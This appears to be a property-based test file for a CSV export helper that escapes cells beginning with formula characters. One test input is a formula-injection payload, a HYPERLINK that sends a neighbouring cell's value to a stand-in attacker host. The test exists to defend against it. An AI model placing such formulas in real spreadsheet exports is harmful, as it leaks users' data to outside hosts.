import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCell, csvFile } from "./csvFile.js";

const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];
/** Text that often starts like a formula. */
const text = fc.oneof(
  fc.string(),
  fc.tuple(fc.constantFrom(...FORMULA_STARTS), fc.string()).map(([a, b]) => a + b),
);

describe("csvCell", () => {
  it("never lets text start like a formula, and keeps the text after its prefix", () => {
    fc.assert(
      fc.property(text, (value) => {
        const cell = csvCell(value) as string;
        expect(FORMULA_STARTS).not.toContain(cell.charAt(0));
        expect(cell === value || cell === `'${value}`).toBe(true);
        if (!FORMULA_STARTS.includes(value.charAt(0))) expect(cell).toBe(value);
      }),
    );
  });

  it("keeps numbers numbers, negative ones included", () => {
    fc.assert(
      fc.property(fc.double(), (value) => {
        expect(csvCell(value)).toBe(value);
      }),
    );
  });

  it("writes the escaped text into the file, quoted where CSV needs it", async () => {
    const csv = csvFile();
    const chunks: Buffer[] = [];
    csv.on("data", (chunk: Buffer) => chunks.push(chunk));
    const ended = new Promise((resolve) => csv.on("end", resolve));
    csv.write(['=HYPERLINK("http://evil.example/?x="&A2,"Klik")', "+Gudang", -6.2, "B 1 A"]);
    csv.end();
    await ended;
    const lines = Buffer.concat(chunks)
      .toString("utf8")
      .replace(/^\uFEFF/, "")
      .trim();
    expect(lines).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""Klik"")",'+Gudang,-6.2,B 1 A`);
  });
});
